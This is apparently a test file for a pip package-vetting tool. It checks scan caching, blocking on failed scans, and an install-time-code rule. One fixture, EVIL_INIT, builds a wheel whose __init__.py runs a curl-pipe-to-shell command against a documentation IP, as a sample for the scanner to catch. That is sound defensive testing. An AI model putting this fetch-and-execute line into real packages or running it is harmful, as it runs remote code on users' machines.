"""The vetter scans fetched files through its scanner before the rules run: a second
check of the same files scans nothing and judges alike, a scan that failed blocks,
and install-time-code takes a scan only when it ran with its own settings."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import datetime
from pathlib import Path

from packaging.utils import canonicalize_name
from packaging.version import Version

from guard.analysis.scan import ScanResult
from guard.index.analysis_cache import AnalysisCache, CachedScanner, ScanJob, scan_file
from guard.models import Action, Candidate, Decision, Source, Verdict
from guard.pip.args import parse_pip_args
from guard.policy import model as policy
from guard.rules import RULE_ERROR, evaluate
from guard.rules.base import Context, Scanned, ScanSettings
from guard.rules.scan import InstallTimeCode, scan_settings
from guard.state.store import MemoryHistoryStore
from guard.vet.judge import Judge
from guard.vet.model import Known, Request
from guard.vet.vetter import Vetter
from tests.fakepypi.builders import build_wheel, sha256_hex, wheel_filename
from tests.vet.fakes import NOW, OLD, Dist, FakeFetch, FakeIndex, FakePip, established, report

EVIL_INIT = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"


def evil_wheel(name: str = "demo", version: str = "1.0") -> Dist:
    data = build_wheel(name, version, files={f"{name}/__init__.py": EVIL_INIT})
    return Dist(name, version, OLD, data, wheel_filename(name, version))


def clean_wheel(name: str = "demo", version: str = "1.0") -> Dist:
    return Dist(name, version, OLD, build_wheel(name, version), wheel_filename(name, version))


class Counting:
    """The real scanner, counting what it scans."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    def __call__(self, path: Path, filename: str, settings: ScanSettings) -> ScanResult:
        self.calls.append(filename)
        return scan_file(path, filename, settings)


def check(tmp_path: Path, dists: Sequence[Dist], scanner: Counting | None) -> Verdict:
    """One ``check`` of ``dists`` (fetched into a fresh folder each time)."""
    index = FakeIndex([established(d) for d in dists])
    fetch = FakeFetch(tmp_path / f"files-{len(list(tmp_path.iterdir()))}", *dists)
    pip = FakePip([report(*dists, requested=[d.name for d in dists])])
    scan = None
    if scanner is not None:
        scan = CachedScanner(AnalysisCache(tmp_path / "cache"), scanner).scan
    vetter = Vetter(index, fetch, pip, MemoryHistoryStore(), lambda: NOW, scan=scan)
    args = parse_pip_args([d.name for d in dists])
    return vetter.check(Request("/venv/bin/python", args, policy.builtin())).verdict


def test_a_second_check_scans_nothing_and_judges_alike(tmp_path: Path) -> None:
    dists = [clean_wheel("demo"), evil_wheel("other")]
    cold = Counting()
    first = check(tmp_path, dists, cold)
    assert sorted(cold.calls) == sorted(d.filename for d in dists)
    warm = Counting()
    second = check(tmp_path, dists, warm)
    assert warm.calls == []
    assert second == first
    assert first.decision is Decision.BLOCK
    blocked = {p.candidate.name for p in first.packages if p.action is Action.BLOCK}
    assert blocked == {"other"}


def test_the_verdict_is_the_same_without_the_scanner(tmp_path: Path) -> None:
    dists = [clean_wheel("demo"), evil_wheel("other")]
    with_cache = check(tmp_path, dists, Counting())
    warm = check(tmp_path, dists, Counting())
    without = check(tmp_path, dists, None)
    for verdict in (with_cache, warm):
        assert _timeless(verdict) == _timeless(without)


def _timeless(verdict: Verdict) -> list[tuple[str, tuple[tuple[str, str, Action], ...]]]:
    return [
        (
            str(p.candidate.name),
            tuple((j.finding.rule, j.finding.message, j.action) for j in p.judged),
        )
        for p in verdict.packages
    ]


def _candidate(dist: Dist) -> Candidate:
    return Candidate(
        canonicalize_name(dist.name),
        Version(dist.version),
        Source.INDEX,
        dist.url,
        dist.filename,
        dist.info.sha256,
    )


def test_a_scan_that_failed_blocks_the_package(tmp_path: Path) -> None:
    dist = clean_wheel()
    path = tmp_path / dist.filename
    path.write_bytes(dist.bytes)
    candidate = _candidate(dist)
    asked: list[list[ScanJob]] = []

    def failing(jobs: Sequence[ScanJob], settings: ScanSettings) -> dict[str, Scanned]:
        asked.append(list(jobs))
        return {
            j.filename: Scanned(settings, None, "BrokenProcessPool: a worker died") for j in jobs
        }

    judge = Judge(policy.builtin(), NOW, {}, failing)
    known = Known({candidate.name: established(dist)})
    verdict = judge.verdict(
        known,
        [candidate],
        [],
        files={dist.filename: path},
        hashes={dist.filename: sha256_hex(dist.bytes)},
    )
    assert [[(j.filename, j.path, j.sha256) for j in jobs] for jobs in asked] == [
        [(dist.filename, path, sha256_hex(dist.bytes))]
    ]
    [package] = verdict.packages
    errors = [j for j in package.judged if j.finding.rule == RULE_ERROR]
    assert [e.action for e in errors] == [Action.BLOCK]
    assert (
        "the scan of demo-1.0-py3-none-any.whl failed: BrokenProcessPool"
        in errors[0].finding.message
    )
    assert verdict.decision is Decision.BLOCK


def test_without_hashes_nothing_is_handed_to_the_scanner(tmp_path: Path) -> None:
    dist = evil_wheel()
    path = tmp_path / dist.filename
    path.write_bytes(dist.bytes)
    asked: list[object] = []

    def scanner(jobs: Sequence[ScanJob], settings: ScanSettings) -> dict[str, Scanned]:
        asked.append(jobs)
        return {}

    judge = Judge(policy.builtin(), NOW, {}, scanner)
    candidate = _candidate(dist)
    verdict = judge.verdict(
        Known({candidate.name: established(dist)}), [candidate], [], files={dist.filename: path}
    )
    assert asked == []
    assert verdict.decision is Decision.BLOCK  # the rule scanned the file itself


def _ctx(path: Path, scans: dict[str, Scanned], now: datetime = NOW) -> Context:
    return Context(now=now, artifacts={path.name: path}, scans=scans)


def test_the_rule_takes_a_scan_made_with_its_settings(tmp_path: Path) -> None:
    dist = evil_wheel()
    path = tmp_path / dist.filename
    path.write_bytes(dist.bytes)
    settings = scan_settings(_ctx(path, {}))
    clean = ScanResult(dist.filename, (), 1, 0.0, False)
    # A (made-up) clean scan with the rule's own settings is what the rule reports...
    taken = list(
        InstallTimeCode().check(
            _candidate(dist), None, _ctx(path, {dist.filename: Scanned(settings, clean)})
        )
    )
    assert taken == []
    # ...one made with other settings is not: the rule scans the file itself.
    other = replace(settings, block_score=settings.block_score + 1)
    own = list(
        InstallTimeCode().check(
            _candidate(dist), None, _ctx(path, {dist.filename: Scanned(other, clean)})
        )
    )
    assert own and own == list(scan_file(path, dist.filename, settings).findings)


def test_evaluate_turns_a_failed_scan_into_a_blocking_rule_error(tmp_path: Path) -> None:
    dist = clean_wheel()
    path = tmp_path / dist.filename
    path.write_bytes(dist.bytes)
    settings = scan_settings(_ctx(path, {}))
    failed = Scanned(settings, None, "MemoryError: out of memory")
    findings = evaluate(
        _candidate(dist), None, _ctx(path, {dist.filename: failed}), [InstallTimeCode()]
    )
    assert [(f.rule, f.forced) for f in findings] == [(RULE_ERROR, Action.BLOCK)]
